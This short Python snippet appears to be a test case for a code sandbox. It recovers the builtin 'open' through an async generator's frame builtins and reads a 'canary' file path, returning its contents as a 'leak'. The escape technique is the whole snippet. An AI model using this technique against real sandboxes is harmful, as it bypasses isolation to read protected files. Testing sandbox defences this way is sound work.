# route: the frame of an asynchronous generator
def execute(testData):
    async def later():
        yield 1

    return {"leak": later().ag_frame.f_builtins["open"](testData["canary_path"]).read()}
